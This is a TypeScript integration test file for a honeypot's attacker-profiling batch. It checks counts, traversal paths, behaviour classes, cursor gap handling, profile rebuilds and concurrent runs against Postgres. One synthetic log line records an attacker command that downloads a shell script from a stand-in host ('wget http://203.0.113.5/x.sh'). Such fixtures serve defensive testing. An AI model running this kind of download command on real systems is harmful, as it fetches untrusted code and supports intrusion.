// The profiler batch against real Postgres: what an attacker row holds after folding synthetic
// logs, that small batches give exactly what one big batch gives, that a row committed late
// under a lower id is not lost, that profiles are rebuilt when their accumulator is gone, and
// that two profilers never fold the same rows.
import { silentLogger } from '@decnet/core';
import { testConfig } from '@decnet/core/testing';
import { attacker_behavior, attackers as attackersTable, bounty, credentials, openDatabase, setState, smtp_targets, type Database } from '@decnet/db';
import { beginTransaction, deleteRows, insertRows, migratedScratchDatabase, tableRows, updateRows } from '@decnet/db/testing';
import type { ScratchDatabase } from '@decnet/testing/postgres';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CursorCorruptError } from './errors.js';
import { CURSOR_STATE_KEY } from './handlers/cursor.js';
import { runBatch, type BatchResult } from './profile-batch.js';
import { insertLogs, resetTables, type SyntheticLog } from './test-kit.fixture.js';

let scratch: ScratchDatabase;
let database: Database;

beforeAll(async () => {
  ({ scratch, database } = await migratedScratchDatabase());
});
afterAll(async () => {
  await database.close();
  await scratch.drop();
});
beforeEach(async () => {
  await resetTables(database);
});

const GRACE = 60_000;
const T0 = Date.parse('2026-05-02T06:00:00Z');

/** Runs batches until one reads nothing new. */
async function drain(batchSize = 1000, now = Date.now()): Promise<BatchResult[]> {
  const results: BatchResult[] = [];
  for (;;) {
    const r = await runBatch(database.pool, batchSize, GRACE, now);
    results.push(r);
    if (r.newRows < batchSize) return results;
  }
}

interface AttackerRow {
  ip: string;
  first_seen: Date;
  last_seen: Date;
  event_count: number;
  service_count: number;
  decky_count: number;
  services: string[];
  deckies: string[];
  traversal_path: string | null;
  is_traversal: boolean;
  bounty_count: number;
  credential_count: number;
  fingerprints: unknown[];
  commands: { command: string }[];
  behavior_class: string;
  tool_guesses: string[];
  timing_stats: Record<string, unknown>;
  phase_sequence: Record<string, unknown>;
  profile_state: unknown;
}

/** Each attacker joined with its behaviour row (attackers without one are left out), by address. */
async function attackers(): Promise<Map<string, AttackerRow>> {
  const behaviors = new Map((await tableRows(database, attacker_behavior)).map((b) => [b.attacker_uuid, b]));
  const rows: AttackerRow[] = [];
  for (const a of await tableRows(database, attackersTable, { orderBy: [attackersTable.ip] })) {
    const b = behaviors.get(a.uuid);
    if (!b) continue;
    rows.push({
      ip: a.ip,
      first_seen: a.first_seen,
      last_seen: a.last_seen,
      event_count: a.event_count,
      service_count: a.service_count,
      decky_count: a.decky_count,
      services: a.services,
      deckies: a.deckies,
      traversal_path: a.traversal_path,
      is_traversal: a.is_traversal,
      bounty_count: a.bounty_count,
      credential_count: a.credential_count,
      fingerprints: a.fingerprints,
      commands: a.commands as AttackerRow['commands'],
      behavior_class: b.behavior_class as string,
      tool_guesses: b.tool_guesses as string[],
      timing_stats: b.timing_stats,
      phase_sequence: b.phase_sequence,
      profile_state: b.profile_state,
    });
  }
  // The accumulator lives in profile_state only, never in the shown timing_stats.
  for (const row of rows) expect(row.timing_stats).not.toHaveProperty('_state');
  // The accumulator's internals (ids, float summation order) may differ; its outputs may not.
  return new Map(rows.map((row) => [row.ip, { ...row, profile_state: undefined }]));
}

/** The behaviour row of the attacker at `ip`. */
async function behaviorOf(ip: string): Promise<typeof attacker_behavior.$inferSelect | undefined> {
  const [a] = await tableRows(database, attackersTable, { match: { ip } });
  return a && (await tableRows(database, attacker_behavior, { match: { attacker_uuid: a.uuid } }))[0];
}

/** A mixed workload: a traversing attacker, a brute forcer, a scanner, noise that must be skipped. */
function workload(): SyntheticLog[] {
  const rows: SyntheticLog[] = [];
  const traverser = '198.51.100.10';
  rows.push({ at: T0, ip: traverser, decky: 'decky-01', service: 'ssh', eventType: 'auth_failure' });
  rows.push({ at: T0 + 30_000, ip: traverser, decky: 'decky-03', service: 'ssh', eventType: 'login' });
  rows.push({
    at: T0 + 60_000,
    ip: traverser,
    decky: 'decky-03',
    service: 'ssh',
    eventType: 'command',
    msg: 'CMD uid=0 user=root src=198.51.100.10 pwd=/root cmd=wget http://203.0.113.5/x.sh',
  });
  rows.push({ at: T0 + 90_000, ip: traverser, decky: 'decky-02', service: 'http', eventType: 'request', fields: { headers: '{"User-Agent":"curl/8.0"}' } });
  for (let i = 0; i < 40; i++) rows.push({ at: T0 + i * 1_500, ip: '198.51.100.20', service: 'ssh', eventType: 'auth_attempt' });
  const services = ['ssh', 'http', 'ftp', 'smtp', 'redis'];
  for (let i = 0; i < 10; i++) rows.push({ at: T0 + i * 500, ip: '198.51.100.30', service: services[i % 5] as string, eventType: 'connection' });
  rows.push({ at: T0, ip: 'Unknown', eventType: 'auth_attempt' });
  rows.push({ at: T0, ip: '198.51.100.20', decky: 'decnet-prober', service: 'prober', eventType: 'jarm_fingerprint' });
  rows.push({ at: T0 + 5, ip: '198.51.100.30', service: 'smtp', eventType: 'rcpt_to', fields: { value: '<ceo@victim.example.org>' } });
  return rows;
}

describe('a batch folds logs rows into attacker and behaviour rows', () => {
  it('counts events, services and deckies, builds the traversal path and classifies behaviour', async () => {
    await insertLogs(database.pool, workload());
    await insertRows(database, bounty, [
      { decky: 'decky-01', service: 'ssh', attacker_ip: '198.51.100.10', bounty_type: 'fingerprint', payload: { fingerprint_type: 'hassh', hash: 'abc' } },
      { decky: 'decky-01', service: 'ssh', attacker_ip: '198.51.100.10', bounty_type: 'ip_leak', payload: { ip: '10.0.0.1' } },
    ]);
    await insertRows(database, credentials, [
      { attacker_ip: '198.51.100.20', decky_name: 'decky-01', service: 'ssh', secret_sha256: 'a' },
      { attacker_ip: '198.51.100.20', decky_name: 'decky-01', service: 'ssh', secret_sha256: 'b' },
    ]);
    const [result] = await drain();
    expect(result?.events).toBe(55);
    expect(result?.skipped).toEqual({ no_attacker_ip: 1, internal_host: 1 });
    const rows = await attackers();
    expect([...rows.keys()]).toEqual(['198.51.100.10', '198.51.100.20', '198.51.100.30']);

    const t = rows.get('198.51.100.10') as AttackerRow;
    expect(t).toMatchObject({
      event_count: 4,
      service_count: 2,
      services: ['http', 'ssh'],
      decky_count: 3,
      deckies: ['decky-01', 'decky-03', 'decky-02'],
      traversal_path: 'decky-01 → decky-03 → decky-02',
      is_traversal: true,
      bounty_count: 2,
      credential_count: 0,
      fingerprints: [{ fingerprint_type: 'hassh', hash: 'abc' }],
      tool_guesses: ['curl'],
    });
    expect(t.commands.map((c) => c.command)).toEqual(['wget http://203.0.113.5/x.sh']);
    expect(t.first_seen.getTime()).toBe(T0);
    expect(t.last_seen.getTime()).toBe(T0 + 90_000);
    expect(t.phase_sequence).toMatchObject({ recon_end_ts: new Date(T0).toISOString(), exfil_start_ts: new Date(T0 + 60_000).toISOString(), exfil_latency_s: 60 });
    expect(t.timing_stats).toMatchObject({ mean: 30, stdev: 0, event_count: 4, duration_s: 90 });

    const b = rows.get('198.51.100.20') as AttackerRow;
    expect(b).toMatchObject({ event_count: 40, services: ['ssh'], is_traversal: false, traversal_path: null, credential_count: 2, behavior_class: 'brute_force' });
    expect(rows.get('198.51.100.30')).toMatchObject({ behavior_class: 'scanning', service_count: 5, event_count: 11 });

    const linked = (await tableRows(database, credentials)).filter((c) => c.attacker_uuid !== null);
    expect(linked.length).toBe(2);
    const smtp = (await tableRows(database, smtp_targets)).map((r) => ({ domain: r.domain, count: r.count }));
    expect(smtp).toEqual([{ domain: 'victim.example.org', count: 1 }]);
  });

  it('gives exactly the same rows whether the logs are folded in batches of 3 or all at once', async () => {
    const rows = workload();
    await insertLogs(database.pool, rows);
    await drain(1000);
    const whole = await attackers();
    await resetTables(database);
    await insertLogs(database.pool, rows);
    const results = await drain(3);
    expect(results.length).toBeGreaterThan(15);
    expect(await attackers()).toEqual(whole);
  });

  it('folds events that arrive out of time order into the same profile as in-order events', async () => {
    const rows: SyntheticLog[] = Array.from({ length: 60 }, (_, i) => ({ at: T0 + i * 7_000 + (i % 3) * 900, ip: '203.0.113.7', decky: `decky-0${(i % 3) + 1}` }));
    await insertLogs(database.pool, rows);
    await drain(1000);
    const ordered = await attackers();
    await resetTables(database);
    // Reverse chunks of 10: every batch brings events older than what is already stored.
    const shuffled = [5, 4, 3, 2, 1, 0].flatMap((c) => rows.slice(c * 10, c * 10 + 10));
    for (let c = 0; c < 6; c++) {
      await insertLogs(database.pool, shuffled.slice(c * 10, c * 10 + 10));
      await drain(7);
    }
    expect(await attackers()).toEqual(ordered);
  });

  it('does nothing and keeps the cursor when there are no new rows', async () => {
    await insertLogs(database.pool, workload());
    await drain();
    const before = await attackers();
    const r = await runBatch(database.pool, 1000, GRACE, Date.now());
    expect(r).toMatchObject({ rows: 0, events: 0, observed: [], scored: [] });
    expect(await attackers()).toEqual(before);
  });
});

describe('the cursor never loses a row committed late under a lower id', () => {
  it('folds in a row whose transaction committed after a higher id was processed', async () => {
    const slow = await beginTransaction(database);
    try {
      const [lowId] = await insertLogs(slow.tx, [{ at: T0, ip: '192.0.2.50', decky: 'decky-09' }]);
      const [highId] = await insertLogs(database.pool, [{ at: T0 + 1_000, ip: '192.0.2.50', decky: 'decky-01' }]);
      expect(lowId).toBeLessThan(highId as number);
      const first = await runBatch(database.pool, 1000, GRACE, Date.now());
      expect(first.cursor.lastLogId).toBe(highId);
      expect(first.cursor.gaps).toEqual([expect.objectContaining({ lo: lowId, hi: lowId })]);
      expect((await attackers()).get('192.0.2.50')).toMatchObject({ event_count: 1, deckies: ['decky-01'] });
      await slow.commit();
    } finally {
      await slow.rollback();
    }
    const second = await runBatch(database.pool, 1000, GRACE, Date.now());
    expect(second.rows).toBe(1);
    expect(second.cursor.gaps).toEqual([]);
    expect((await attackers()).get('192.0.2.50')).toMatchObject({ event_count: 2, deckies: ['decky-09', 'decky-01'], traversal_path: 'decky-09 → decky-01' });
  });

  it('forgets a rolled-back id after the grace period', async () => {
    const slow = await beginTransaction(database);
    try {
      await insertLogs(slow.tx, [{ at: T0, ip: '192.0.2.51' }]);
      await insertLogs(database.pool, [{ at: T0, ip: '192.0.2.51' }]);
      const now = Date.now();
      expect((await runBatch(database.pool, 1000, GRACE, now)).cursor.gaps).toHaveLength(1);
      await slow.rollback();
      const later = await runBatch(database.pool, 1000, GRACE, now + GRACE + 1);
      expect(later.cursor.gaps).toEqual([]);
      expect(later.abandonedIds).toBe(1);
    } finally {
      await slow.rollback();
    }
  });
});

describe('a profile whose accumulator is gone is rebuilt from the stored history', () => {
  it('rebuilds after the attacker row was deleted, counting its whole history', async () => {
    const ip = '192.0.2.60';
    await insertLogs(database.pool, Array.from({ length: 30 }, (_, i) => ({ at: T0 + i * 1_000, ip })));
    await drain(8);
    await deleteRows(database, attackersTable, { ip });
    await insertLogs(database.pool, [{ at: T0 + 31_000, ip, decky: 'decky-02' }]);
    const [r] = await drain();
    expect(r).toMatchObject({ rebuilt: 1, attackersInserted: 1 });
    expect(r?.observed[0]?.payload.first_seen).toBe(new Date(T0).toISOString());
    expect((await attackers()).get(ip)).toMatchObject({ event_count: 31, deckies: ['decky-01', 'decky-02'] });
  });

  it('rebuilds when the stored accumulator was tampered with', async () => {
    const ip = '192.0.2.61';
    await insertLogs(database.pool, Array.from({ length: 12 }, (_, i) => ({ at: T0 + i * 2_000, ip })));
    await drain(5);
    const good = (await attackers()).get(ip);
    await updateRows(database, attacker_behavior, { profile_state: 'garbage' }, {});
    await insertLogs(database.pool, [{ at: T0 + 24_000, ip }]);
    const [r] = await drain();
    expect(r?.rebuilt).toBe(1);
    const rebuilt = (await attackers()).get(ip);
    expect(rebuilt?.event_count).toBe(13);
    expect(rebuilt?.timing_stats).toMatchObject({ mean: 2, event_count: 13 });
    expect(good?.event_count).toBe(12);
  });

  it('keeps the accumulator in profile_state and reads it from nowhere else', async () => {
    const ip = '192.0.2.63';
    await insertLogs(database.pool, Array.from({ length: 6 }, (_, i) => ({ at: T0 + i * 3_000, ip })));
    await drain();
    const stored = async () => behaviorOf(ip);
    expect((await stored())?.profile_state).toMatchObject({ v: 1, timing: { n: 6 } });
    // An incremental batch folds into it without touching the history.
    await insertLogs(database.pool, [{ at: T0 + 18_000, ip }]);
    expect((await drain())[0]).toMatchObject({ rebuilt: 0, attackersUpdated: 1 });
    expect((await stored())?.profile_state).toMatchObject({ timing: { n: 7 } });
    // A pre-0002 layout (accumulator under timing_stats._state) is not read: the profile is rebuilt.
    for (const b of await tableRows(database, attacker_behavior)) {
      await updateRows(database, attacker_behavior, { timing_stats: { ...b.timing_stats, _state: b.profile_state }, profile_state: null }, { attacker_uuid: b.attacker_uuid });
    }
    await insertLogs(database.pool, [{ at: T0 + 21_000, ip }]);
    expect((await drain())[0]?.rebuilt).toBe(1);
    const after = await stored();
    expect(after?.profile_state).toMatchObject({ timing: { n: 8 } });
    expect(after?.timing_stats).not.toHaveProperty('_state');
    expect(after?.timing_stats).toMatchObject({ mean: 3, event_count: 8 });
  });

  it('refuses to run on a corrupt cursor instead of counting everything again', async () => {
    await insertLogs(database.pool, [{ at: T0, ip: '192.0.2.62' }]);
    await setState(database.db, CURSOR_STATE_KEY, { position: 9 });
    await expect(runBatch(database.pool, 1000, GRACE, Date.now())).rejects.toBeInstanceOf(CursorCorruptError);
    expect((await attackers()).size).toBe(0);
  });
});

describe('two profilers never fold the same rows', () => {
  it('serialises concurrent batches so every event is counted once', async () => {
    const other = await openDatabase(testConfig({ DATABASE_URL: scratch.url }), silentLogger, { retry: false, poolMax: 2 });
    try {
      const ips = ['192.0.2.70', '192.0.2.71', '192.0.2.72'];
      await insertLogs(
        database.pool,
        Array.from({ length: 600 }, (_, i) => ({ at: T0 + i * 100, ip: ips[i % 3] as string, decky: `decky-0${i % 4}` })),
      );
      const loop = async (pool: typeof database.pool): Promise<void> => {
        for (;;) if ((await runBatch(pool, 25, GRACE, Date.now())).newRows === 0) return;
      };
      await Promise.all([loop(database.pool), loop(other.pool)]);
      const rows = await attackers();
      expect(ips.map((ip) => rows.get(ip)?.event_count)).toEqual([200, 200, 200]);
    } finally {
      await other.close();
    }
  });
});
